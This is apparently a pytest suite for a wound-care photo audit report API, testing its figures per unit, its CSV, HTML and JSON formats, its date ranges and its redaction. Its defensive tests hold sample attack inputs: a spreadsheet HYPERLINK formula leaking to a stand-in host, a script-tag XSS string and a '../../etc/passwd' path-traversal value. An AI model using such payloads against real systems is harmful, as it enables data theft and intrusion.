"""The wound-care audit report, with data built through the real API (local archive)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import Engine, update
from sqlmodel import col

from capture_api.api.app import create_app
from capture_api.api.routes import reports
from capture_api.audit.export import spreadsheet_safe
from capture_api.capture.anatomy import resolve
from capture_api.config import EhrRegistration, Settings
from capture_api.review.audit_report import (
    CSV_HEADER,
    NO_UNIT,
    TOTAL,
    redact_reason,
)
from capture_api.runtime import Runtime
from capture_api.store.db import session
from capture_api.store.records import CaptureRecord
from tests.conftest import SAMPLES, phone_jpeg

FOREARM, _ = resolve("left forearm")
SACRUM, _ = resolve("sacrum")
CORRUPT = (SAMPLES / "camera" / "corrupted.jpg").read_bytes()
PATIENT = {"id": "MRN-4711", "name": {"family": "Doe", "given": "Jane"}}
URL = "/api/v1/reports/wound-audit"
#: An instant whose UTC day (15th) differs from its Berlin day (16th).
OLD = dt.datetime(2025, 1, 15, 23, 30, tzinfo=dt.UTC)


def _app(tmp: Path, **overrides: Any) -> FastAPI:
    values: dict[str, Any] = {"data_dir": tmp, "poll_seconds": 0.05, "retry_base_seconds": 0.05}
    values.update(overrides)
    app = create_app(Settings(**values))
    app.include_router(reports.router, prefix="/api/v1")  # app.py does not mount it yet
    return app


def _runtime(client: TestClient) -> Runtime:
    app: Any = client.app
    runtime: Runtime = app.state.runtime
    return runtime


def _context(client: TestClient, unit: str | None) -> str:
    encounter: dict[str, Any] = {"admission_id": "V-1"}
    if unit is not None:
        encounter["unit"] = unit
    response = client.post("/api/v1/contexts", json={"patient": PATIENT, "encounter": encounter})
    assert response.status_code == 201, response.text
    return str(response.json()["context_id"])


def _upload(client: TestClient, context_id: str, capture_id: str, photo: bytes, **form: str) -> Any:
    fields = {"capture_id": capture_id, "context_id": context_id} | form
    return client.post(
        "/api/v1/captures", data=fields, files={"photo": ("p.jpg", photo, "image/jpeg")}
    )


def _photo(seed: int) -> bytes:
    return phone_jpeg(320, 240, seed=seed)


def _wait(client: TestClient, capture_id: str, status: str = "verified") -> dict[str, Any]:
    deadline = time.monotonic() + 20
    body: dict[str, Any] = {}
    while time.monotonic() < deadline:
        body = client.get(f"/api/v1/captures/{capture_id}").json()
        if body["status"] == status:
            return body
        time.sleep(0.05)
    raise AssertionError(f"{capture_id} stayed {body.get('status')}: {body}")


def _set_times(
    engine: Engine, capture_id: str, created: dt.datetime, verified: dt.datetime | None
) -> None:
    with session(engine) as s:
        s.execute(
            update(CaptureRecord)
            .where(col(CaptureRecord.id) == capture_id)
            .values(created_at=created, verified_at=verified)
        )
        s.commit()


def _shift_verified(engine: Engine, capture_id: str, after: dt.timedelta) -> None:
    with session(engine) as s:
        record = s.get(CaptureRecord, capture_id)
        assert record is not None
        created = record.created_at
    _set_times(engine, capture_id, created, created + after)


@dataclass
class Populated:
    client: TestClient
    failure_reason: str
    today: dt.date


@pytest.fixture(scope="module")
def populated(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Populated]:
    """Ward 7: on time (site), late (no site), failed (site); clinic: on time at exactly
    5 min (site), pending (site); no unit: on time (no site); one Ward 7 photo from 2025.
    """
    tmp = tmp_path_factory.mktemp("audit")
    with TestClient(_app(tmp)) as client:
        engine = _runtime(client).engine
        ward, clinic, nowhere = (_context(client, u) for u in ("Ward 7", "Wound clinic", None))
        site = {"body_site": FOREARM.code_value, "laterality": "L"}
        sacrum = {"body_site": SACRUM.code_value}
        assert _upload(client, ward, "w-on-time", _photo(1), **site).status_code == 202
        assert _upload(client, ward, "w-late", _photo(2)).status_code == 202
        failed = _upload(client, ward, "w-failed", CORRUPT, **site)
        assert failed.status_code == 422
        assert _upload(client, clinic, "c-5min", _photo(3), **sacrum).status_code == 202
        assert _upload(client, nowhere, "n-on-time", _photo(4)).status_code == 202
        assert _upload(client, ward, "w-2025", _photo(5), **site).status_code == 202
        for capture_id in ("w-on-time", "w-late", "c-5min", "n-on-time", "w-2025"):
            _wait(client, capture_id)
        reason = _wait(client, "w-failed", "failed")["reason"]
        assert "premature end of data segment" in reason

        _shift_verified(engine, "w-late", dt.timedelta(minutes=10))
        _shift_verified(engine, "c-5min", dt.timedelta(seconds=300))  # the boundary: on time
        _set_times(engine, "w-2025", OLD, OLD + dt.timedelta(minutes=1))

        taken_back = client.post("/api/v1/captures/w-late/rejection", json={"reason": "quality"})
        assert taken_back.status_code == 201, taken_back.text  # counted as rejected, still taken

        _runtime(client).worker.stop()  # from here on nothing is delivered: a pending photo
        assert _upload(client, clinic, "c-pending", _photo(6), **sacrum).status_code == 202
        assert client.get("/api/v1/captures/c-pending").json()["status"] != "verified"

        yield Populated(client, reason, dt.datetime.now(dt.UTC).date())


def _range(today: dt.date) -> dict[str, str]:
    """Yesterday..tomorrow: robust to the test crossing midnight UTC."""
    day = dt.timedelta(days=1)
    return {"from": (today - day).isoformat(), "to": (today + day).isoformat()}


def _row(
    label: str,
    unit: str | None,
    figures: list[int],
    reasons: dict[str, int],
    rejected: dict[str, int] | None = None,
) -> Any:
    taken, site, on_time, late, pending, failed = figures
    return {
        "unit": unit,
        "label": label,
        "photos_taken": taken,
        "with_body_site": site,
        "with_body_site_pct": round(100 * site / taken, 1) if taken else None,
        "delivered_within_5_min": on_time,
        "delivered_within_5_min_pct": round(100 * on_time / taken, 1) if taken else None,
        "delivered_later": late,
        "pending": pending,
        "failed": failed,
        "failure_reasons": reasons,
        "rejected": sum((rejected or {}).values()),
        "rejection_reasons": rejected or {},
        "measured": 0,  # no wound measured here (tests/wounds/test_report.py measures)
        "measured_pct": 0.0 if taken else None,
        "area_reduction_4_weeks": None,
    }


def test_json_figures_per_unit_and_total(populated: Populated) -> None:
    client, reason = populated.client, populated.failure_reason
    response = client.get(URL, params=_range(populated.today))
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("application/json")
    assert response.headers["cache-control"] == "no-store"
    body = response.json()
    assert body["units"] == [
        _row("Ward 7", "Ward 7", [3, 2, 1, 1, 0, 1], {reason: 1}, {"quality": 1}),
        _row("Wound clinic", "Wound clinic", [2, 2, 1, 0, 1, 0], {}),
        _row(NO_UNIT, None, [1, 0, 1, 0, 0, 0], {}),
    ]
    assert body["total"] == _row(TOTAL, None, [6, 4, 3, 1, 1, 1], {reason: 1}, {"quality": 1})
    assert body["units"][0]["with_body_site_pct"] == 66.7
    assert body["units"][0]["delivered_within_5_min_pct"] == 33.3
    assert body["total"]["delivered_within_5_min_pct"] == 50.0
    assert body["from"] == _range(populated.today)["from"]
    assert body["timezone"] == "UTC" and body["on_time_seconds"] == 300
    assert body["range_end"].startswith((populated.today + dt.timedelta(days=2)).isoformat())


def test_no_patient_identifiers_in_any_format(populated: Populated) -> None:
    for fmt in ("json", "csv", "html"):
        text = populated.client.get(URL, params=_range(populated.today) | {"format": fmt}).text
        for secret in ("MRN-4711", "Doe", "Jane", "V-1", "w-on-time", "w-failed"):
            assert secret not in text, (fmt, secret)


def test_csv_parses_and_matches_the_json(populated: Populated) -> None:
    client = populated.client
    params = _range(populated.today)
    response = client.get(URL, params=params | {"format": "csv"})
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["cache-control"] == "no-store"
    assert "attachment" in response.headers["content-disposition"]
    assert response.content.startswith(b"\xef\xbb\xbf")  # BOM: spreadsheets detect UTF-8
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert tuple(rows[0].keys()) == CSV_HEADER
    assert [r["unit"] for r in rows] == ["Ward 7", "Wound clinic", NO_UNIT, TOTAL]
    body = client.get(URL, params=params).json()
    for row, expected in zip(rows, [*body["units"], body["total"]], strict=True):
        assert int(row["photos taken"]) == expected["photos_taken"]
        assert int(row["with body site"]) == expected["with_body_site"]
        assert float(row["with body site %"]) == expected["with_body_site_pct"]
        assert int(row["delivered within 5 min"]) == expected["delivered_within_5_min"]
        assert float(row["delivered within 5 min %"]) == expected["delivered_within_5_min_pct"]
        assert int(row["delivered later"]) == expected["delivered_later"]
        assert int(row["pending"]) == expected["pending"]
        assert int(row["failed"]) == expected["failed"]
    assert rows[0]["failure reasons"] == f"{populated.failure_reason} (1)"
    assert rows[3]["failure reasons"] == f"{populated.failure_reason} (1)"
    assert rows[1]["failure reasons"] == ""
    assert rows[0]["with body site %"] == "66.7"
    assert [r["rejected"] for r in rows] == ["1", "0", "0", "1"]
    assert rows[0]["rejection reasons"] == rows[3]["rejection reasons"] == "quality (1)"


def test_html_is_a_printable_self_contained_page(populated: Populated) -> None:
    response = populated.client.get(URL, params=_range(populated.today) | {"format": "html"})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/html")
    assert response.headers["cache-control"] == "no-store"
    assert "default-src 'none'" in response.headers["content-security-policy"]
    page = response.text
    first, last = _range(populated.today).values()
    assert f"<title>Wound-care photo audit {first} to {last} (UTC)</title>" in page
    assert "generated " in page and "@media print" in page
    assert "<script" not in page.lower()
    assert "src=" not in page and "href=" not in page and "http" not in page
    assert '<th scope="row">Ward 7</th>' in page and f'<th scope="row">{TOTAL}</th>' in page


def test_content_negotiation(populated: Populated) -> None:
    client, params = populated.client, _range(populated.today)
    as_csv = client.get(URL, params=params, headers={"Accept": "text/csv"})
    assert as_csv.headers["content-type"].startswith("text/csv")
    browser = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
    assert (
        client.get(URL, params=params, headers={"Accept": browser})
        .headers["content-type"]
        .startswith("text/html")
    )
    preferred = client.get(URL, params=params, headers={"Accept": "text/html;q=0.5, text/csv"})
    assert preferred.headers["content-type"].startswith("text/csv")
    forced = client.get(URL, params=params | {"format": "json"}, headers={"Accept": "text/csv"})
    assert forced.headers["content-type"].startswith("application/json")
    assert client.get(URL, params=params | {"format": "pdf"}).status_code == 422


def test_range_is_whole_days_and_excludes_other_captures(populated: Populated) -> None:
    client = populated.client
    old_day = {"from": "2025-01-15", "to": "2025-01-15"}
    body = client.get(URL, params=old_day).json()
    assert [r["label"] for r in body["units"]] == ["Ward 7"]
    assert body["total"] == _row(TOTAL, None, [1, 1, 1, 0, 0, 0], {})
    # The same instant is already the 16th in Berlin.
    berlin = client.get(URL, params=old_day | {"tz": "Europe/Berlin"}).json()
    assert berlin["total"]["photos_taken"] == 0 and berlin["units"] == []
    assert berlin["range_start"].startswith("2025-01-14T23:00:00")
    next_day = {"from": "2025-01-16", "to": "2025-01-16", "tz": "Europe/Berlin"}
    assert client.get(URL, params=next_day).json()["total"]["photos_taken"] == 1
    future = populated.today + dt.timedelta(days=2)
    empty = client.get(URL, params={"from": future.isoformat(), "to": future.isoformat()})
    assert empty.json()["units"] == [] and empty.json()["total"]["photos_taken"] == 0
    assert empty.json()["total"]["with_body_site_pct"] is None
    in_range = client.get(URL, params=_range(populated.today)).json()
    assert in_range["total"]["photos_taken"] == 6  # the 2025 photo is not counted


def test_unit_filter(populated: Populated) -> None:
    client, params = populated.client, _range(populated.today)
    clinic = client.get(URL, params=params | {"unit": "Wound clinic"}).json()
    assert [r["label"] for r in clinic["units"]] == ["Wound clinic"]
    assert clinic["total"]["photos_taken"] == 2 and clinic["unit_filter"] == "Wound clinic"
    none = client.get(URL, params=params | {"unit": NO_UNIT}).json()
    assert [r["unit"] for r in none["units"]] == [None] and none["total"]["photos_taken"] == 1
    unknown = client.get(URL, params=params | {"unit": "Ward 99"}).json()
    assert unknown["units"] == [_row("Ward 99", "Ward 99", [0, 0, 0, 0, 0, 0], {})]


@pytest.mark.parametrize(
    ("params", "words"),
    [
        ({"from": "2026-02-02", "to": "2026-02-01"}, "before"),
        ({"from": "2024-01-01", "to": "2026-01-01"}, "at most 366"),
        ({"from": "2026-02-01", "to": "2026-02-01", "tz": "Mars/Olympus"}, "time zone"),
        ({"from": "2026-02-01", "to": "2026-02-01", "tz": "../../etc/passwd"}, "time zone"),
    ],
)
def test_invalid_ranges_are_422(populated: Populated, params: dict[str, str], words: str) -> None:
    response = populated.client.get(URL, params=params)
    assert response.status_code == 422 and words in response.json()["detail"]
    assert populated.client.get(URL, params={"from": "2026-13-01", "to": "x"}).status_code == 422
    assert populated.client.get(URL).status_code == 422


def test_formula_injection_and_html_escaping(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?leak","click me")'
    markup = '<script>alert("x")</script> & <b>Ward</b>'
    with TestClient(_app(tmp_path)) as client:
        for i, unit in enumerate((formula, markup, "+1 ward", "@sum", "-2")):
            assert _upload(client, _context(client, unit), f"x{i}", _photo(i)).status_code == 202
        today = dt.datetime.now(dt.UTC).date()
        params = _range(today)
        rows = list(
            csv.reader(
                io.StringIO(
                    client.get(URL, params=params | {"format": "csv"}).content.decode("utf-8-sig")
                )
            )
        )
        units = [row[0] for row in rows[1:]]
        assert set(units) == {"'" + formula, "'+1 ward", "'@sum", "'-2", markup, TOTAL}
        assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)

        page = client.get(URL, params=params | {"format": "html"}).text
        assert "<script" not in page and "<b>Ward</b>" not in page
        assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &lt;b&gt;Ward" in page
        assert "=HYPERLINK(&quot;http://evil.example/?leak&quot;,&quot;click me&quot;)" in page

        only = client.get(URL, params=params | {"unit": formula}).json()
        assert [r["unit"] for r in only["units"]] == [formula]


def test_spreadsheet_safe_and_reason_redaction() -> None:
    assert spreadsheet_safe("=1+1") == "'=1+1"
    assert spreadsheet_safe("\t=1") == "'\t=1"
    assert spreadsheet_safe("Ward 7") == "Ward 7"
    assert spreadsheet_safe("") == ""
    assert (
        redact_reason("instance 1.2.826.0.1.3680043.8.498.1 is not in the local archive")
        == "instance <UID> is not in the local archive"
    )
    assert redact_reason("the file is 12.5 MB") == "the file is 12.5 MB"
    assert redact_reason(None) == "(no reason recorded)"


def test_ehr_mode_needs_a_signed_in_user(tmp_path: Path) -> None:
    ehr = EhrRegistration(iss="http://127.0.0.1:1/fhir", client_id="x")
    with TestClient(_app(tmp_path, ehrs=[ehr])) as client:
        response = client.get(URL, params={"from": "2026-01-01", "to": "2026-01-31"})
        assert response.status_code == 401
        assert client.get(URL).status_code == 401  # before validating the query
        as_csv = {"from": "2026-01-01", "to": "2026-01-01", "format": "csv"}
        assert client.get(URL, params=as_csv).status_code == 401
